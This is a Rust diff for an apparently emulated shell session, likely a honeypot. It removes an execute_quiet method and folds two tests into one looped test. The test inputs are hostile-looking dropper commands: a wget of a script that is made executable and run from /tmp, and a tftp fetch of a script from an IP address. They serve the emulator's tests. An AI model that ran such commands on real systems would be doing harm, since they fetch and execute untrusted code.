@@ -297,21 +297,12 @@ impl ShellSession {
     /// Execute one input line (may contain multiple statements), returning
     /// the rendered terminal output. The render is the one owned allocation;
     /// front-ends that do not echo output should use
-    /// [`ShellSession::execute_quiet`].
+    /// [`ShellSession::execute_parsed_quiet`].
     pub fn execute(&mut self, line: &str) -> ExecResult {
         let commands_run = self.run_line_at_depth(line);
         let rendered = self.scratch.lines[self.depth as usize].rendered.clone();
         ExecResult {
             rendered,
-            commands_run,
-            exited: self.exited,
-        }
-    }
-
-    /// Execute one input line without materialising rendered output.
-    pub fn execute_quiet(&mut self, line: &str) -> QuietExec {
-        let commands_run = self.run_line_at_depth(line);
-        QuietExec {
             commands_run,
             exited: self.exited,
         }
@@ -773,37 +764,29 @@ mod tests {
     }
 
     #[test]
-    fn quiet_execution_matches_rendered_events() {
-        let script = "cd /tmp; wget http://h/a.sh > log 2>&1; chmod 777 a.sh; ./a.sh; frob";
-        let mut a = session();
-        a.execute(script);
-        let ea = a.take_events();
-        let mut b = session();
-        let q = b.execute_quiet(script);
-        let eb = b.take_events();
-        assert_eq!(ea.commands, eb.commands);
-        assert_eq!(ea.file_events, eb.file_events);
-        assert_eq!(ea.uris, eb.uris);
-        assert_eq!(ea.downloads, eb.downloads);
-        assert_eq!(q.commands_run, 5);
-    }
-
-    #[test]
     fn parsed_quiet_matches_line_execution() {
-        let script = "echo x > /a; cat /a | grep x; tftp -g -r b.sh 10.0.0.1";
-        let mut buf = LineBuf::new();
-        buf.parse(script);
-        let mut a = session();
-        a.execute(script);
-        let ea = a.take_events();
-        let mut b = session();
-        let q = b.execute_parsed_quiet(&buf);
-        let eb = b.take_events();
-        assert_eq!(ea.commands, eb.commands);
-        assert_eq!(ea.file_events, eb.file_events);
-        assert_eq!(ea.uris, eb.uris);
-        assert_eq!(ea.downloads, eb.downloads);
-        assert!(!q.exited);
+        for (script, commands_run) in [
+            (
+                "cd /tmp; wget http://h/a.sh > log 2>&1; chmod 777 a.sh; ./a.sh; frob",
+                5,
+            ),
+            ("echo x > /a; cat /a | grep x; tftp -g -r b.sh 10.0.0.1", 4),
+        ] {
+            let mut buf = LineBuf::new();
+            buf.parse(script);
+            let mut a = session();
+            a.execute(script);
+            let ea = a.take_events();
+            let mut b = session();
+            let q = b.execute_parsed_quiet(&buf);
+            let eb = b.take_events();
+            assert_eq!(ea.commands, eb.commands);
+            assert_eq!(ea.file_events, eb.file_events);
+            assert_eq!(ea.uris, eb.uris);
+            assert_eq!(ea.downloads, eb.downloads);
+            assert_eq!(q.commands_run, commands_run);
+            assert!(!q.exited);
+        }
     }
 
     #[test]
